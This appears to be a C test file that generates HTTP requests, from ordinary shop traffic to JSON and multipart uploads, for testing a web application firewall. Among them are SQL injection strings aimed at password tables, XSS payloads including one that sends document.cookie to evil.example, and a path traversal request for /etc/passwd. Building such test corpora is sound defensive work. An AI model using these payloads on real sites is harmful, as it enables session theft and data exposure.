/* SPDX-License-Identifier: Apache-2.0 */
#include "waf_cases.h"

#include <stdlib.h>

#include "tests/differential/random.h"

#define RAW_MAX ((size_t)4 << 20)
#define T WAF_TOKEN

#define HOST "Host: shop.example.org\r\n"
#define FIREFOX "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
#define BROWSER HOST FIREFOX "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.7,de;q=0.3\r\n"

/* Prose as shops and blogs have it; what an editor sends is longer than what a rule looks for. */
static const char *const words[] = {"the", "harbour", "of", "a", "small", "town", "in", "winter", "has", "boats", "with", "painted", "names", "and", "nets", "that", "dry",
    "on", "walls", "while", "people", "talk", "about", "weather", "prices", "children", "who", "left", "for", "cities", "letters", "they", "write", "every", "month", "tea",
    "coffee", "bread", "from", "bakery", "near", "bridge", "opens", "early", "its", "owner", "knows", "everybody", "by", "name", "quiet", "evening", "light", "over", "water"};

static void prose(struct random *random, size_t len, struct text *out)
{
    size_t end = out->len + len;
    for (size_t n = 1; out->len < end; n++) {
        text_puts(out, words[random_below(random, sizeof words / sizeof *words)]);
        text_puts(out, n % 9 ? " " : n % 4 ? ", " : ". ");
    }
}

/* ---- without a body */

static void small_get(struct text *out)
{
    text_puts(out, "GET /items?id=" T " HTTP/1.1\r\n" HOST "User-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n");
}

/* What Firefox sends when a link of the same site is followed: 15 headers, six cookies. */
static void browser_get(struct text *out)
{
    text_puts(out, "GET /category/outdoor?page=2&sort=price&session=" T " HTTP/1.1\r\n" BROWSER
        "Accept-Encoding: gzip, deflate, br, zstd\r\nReferer: https://shop.example.org/category/outdoor?page=1&from=" T "\r\nConnection: keep-alive\r\n"
        "Cookie: session=" T "; lang=en; currency=EUR; consent=necessary.statistics; _ga=GA1.2.1390857234.1760012345; cart=3f9a-" T "\r\n"
        "Upgrade-Insecure-Requests: 1\r\nSec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Site: same-origin\r\nSec-Fetch-User: ?1\r\nDNT: 1\r\nPriority: u=0, i\r\n\r\n");
}

static void long_cookies(struct text *out)
{
    struct random random = {1};
    text_puts(out, "GET /account?id=" T " HTTP/1.1\r\n" BROWSER "Cookie: session=" T);
    for (int i = 0; i < 40; i++) {
        text_printf(out, "; pref%d=" T, i);
        for (int k = 0; k < 180; k++)
            text_printf(out, "%c", "abcdefghijklmnopqrstuvwxyz0123456789"[random_below(&random, 36)]);
    }
    text_puts(out, "\r\n\r\n");
}

static void sql_get(struct text *out)
{
    text_puts(out, "GET /items?id=1%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20mysql.user%20WHERE%20%271%27%3D%271&page=" T " HTTP/1.1\r\n" BROWSER "\r\n");
}

static void xss_get(struct text *out)
{
    text_puts(out, "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&from=" T " HTTP/1.1\r\n" BROWSER "\r\n");
}

static void scanner(struct text *out)
{
    text_puts(out, "GET /cgi-bin/../../../../etc/passwd?" T "=/.git/config HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)\r\n"
        "Connection: Keep-Alive\r\n\r\n");
}

/* ---- with one */

static void post(const char *target, const char *type, const struct text *body, struct text *out)
{
    text_printf(out, "POST %s HTTP/1.1\r\n" BROWSER "Origin: https://shop.example.org\r\nCookie: session=" T "; lang=en\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n", target, type,
        body->len);
    text_append(out, body->at, body->len);
}

static void form(const char *target, struct text *body, struct text *out)
{
    for (size_t i = 0; i < body->len; i++)
        if (body->at[i] == ' ')
            body->at[i] = '+';
    post(target, "application/x-www-form-urlencoded", body, out);
    text_free(body);
}

static void login_form(struct text *out)
{
    struct text body = text_new(RAW_MAX);
    text_puts(&body, "username=anna.example&password=Correct-Horse-7&csrf=" T "&remember=on&next=%2Faccount");
    form("/login", &body, out);
}

static void form_8k(struct text *out)
{
    struct text body = text_new(RAW_MAX);
    struct random random = {2};
    text_puts(&body, "csrf=" T "&title=A walk along the harbour&text=" T " ");
    prose(&random, 8 << 10, &body);
    form("/articles/17", &body, out);
}

static void form_120(struct text *out)
{
    struct text body = text_new(RAW_MAX);
    struct random random = {3};
    for (int i = 0; i < 120; i++) {
        text_printf(&body, "%sfield%d=" T " ", i ? "&" : "", i);
        prose(&random, 20, &body);
    }
    form("/survey", &body, out);
}

static void sql_form(struct text *out)
{
    struct text body = text_new(RAW_MAX);
    text_puts(&body, "username=admin%27+or+1%3D1--+&password=x%27+union+all+select+password+from+users--&csrf=" T);
    form("/login", &body, out);
}

static void xss_form(struct text *out)
{
    struct text body = text_new(RAW_MAX);
    text_puts(&body, "name=" T "&comment=%3Cimg+src%3Dx+onerror%3D%22fetch('//evil.example/'%2Bdocument.cookie)%22%3E%3Csvg%2Fonload%3Dprompt(1)%3E");
    form("/comments", &body, out);
}

/* A list of records, of five members each: as many as `records`, all together about `len` bytes. */
static void json(const char *target, size_t records, size_t len, struct text *out)
{
    struct text body = text_new(RAW_MAX);
    struct random random = {4};
    text_puts(&body, "{\"items\":[");
    for (size_t i = 0; i < records; i++) {
        text_printf(&body, "%s{\"id\":%zu,\"key\":\"" T "\",\"price\":%u.%02u,\"tags\":[\"new\"],\"text\":\"", i ? "," : "", i + 1, 1 + random_below(&random, 90), random_below(&random, 100));
        size_t fixed = 80;
        if (len / records > fixed)
            prose(&random, len / records - fixed, &body);
        text_puts(&body, "\"}");
    }
    text_puts(&body, "]}");
    post(target, "application/json", &body, out);
    text_free(&body);
}

static void json_250(struct text *out)
{
    json("/api/cart", 1, 240, out);
}

static void json_9k(struct text *out)
{
    json("/api/items", 25, 9 << 10, out);
}

static void json_80k(struct text *out)
{
    json("/api/items", 160, 80 << 10, out);
}

/* Fewer than the 1,000 arguments that the base configuration inspects. */
static void json_1m(struct text *out)
{
    json("/api/import", 190, 1 << 20, out);
}

static void xml(struct text *out)
{
    struct text body = text_new(RAW_MAX);
    struct random random = {5};
    text_puts(&body, "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<order xmlns=\"urn:example:order\" key=\"" T "\">\n");
    for (int i = 0; i < 20; i++) {
        text_printf(&body, " <line number=\"%d\"><item>" T "</item><count>%u</count><note>", i + 1, 1 + random_below(&random, 9));
        prose(&random, 90, &body);
        text_puts(&body, "</note></line>\n");
    }
    text_puts(&body, "</order>\n");
    post("/api/orders", "text/xml", &body, out);
    text_free(&body);
}

/* Two fields and a picture: bytes of any value, but no line of it is a boundary. */
static void multipart(size_t len, struct text *out)
{
    struct text body = text_new(RAW_MAX);
    struct random random = {6};
    text_puts(&body, "------geckoform7b1d\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n" T "\r\n"
        "------geckoform7b1d\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nThe harbour in winter\r\n"
        "------geckoform7b1d\r\nContent-Disposition: form-data; name=\"picture\"; filename=\"harbour.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n" T);
    for (size_t i = 0; i < len; i += 8) {
        uint64_t eight = random_next(&random);
        text_append(&body, &eight, sizeof eight);
    }
    text_puts(&body, "\r\n------geckoform7b1d--\r\n");
    post("/pictures", "multipart/form-data; boundary=----geckoform7b1d", &body, out);
    text_free(&body);
}

static void multipart_256k(struct text *out)
{
    multipart(256 << 10, out);
}

static void multipart_1m(struct text *out)
{
    multipart(1 << 20, out);
}

static const struct {
    const char *name;
    void (*make)(struct text *out);
} made[] = {
    {"small-get", small_get}, {"browser-get", browser_get}, {"login-form", login_form}, {"json-250", json_250}, {"json-9k", json_9k}, {"json-80k", json_80k}, {"json-1m", json_1m},
    {"form-8k", form_8k}, {"form-120-arguments", form_120}, {"multipart-256k", multipart_256k}, {"multipart-1m", multipart_1m}, {"xml", xml}, {"long-cookies", long_cookies},
    {"sqli-get", sql_get}, {"sqli-form", sql_form}, {"xss-get", xss_get}, {"xss-form", xss_form}, {"scanner", scanner},
};

void waf_cases_make(struct waf_cases *ret)
{
    *ret = (struct waf_cases){0};
    for (size_t i = 0; i < sizeof made / sizeof *made; i++) {
        struct text raw = text_new(RAW_MAX);
        made[i].make(&raw);
        if (raw.failed)
            abort();
        waf_cases_add(ret, made[i].name, bytes_of(raw.at, raw.len));
        text_free(&raw);
    }
}

struct waf_case waf_answer_make(void)
{
    static const char page[] = "<!doctype html><html><head><title>Shop</title></head><body><p>" T "</p></body></html>\n";
    struct text raw = text_new(RAW_MAX);
    text_printf(&raw, "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %zu\r\n\r\n%s", sizeof page - 1, page);
    struct waf_case answer = waf_case_of("answer", bytes_of(raw.at, raw.len));
    text_free(&raw);
    return answer;
}
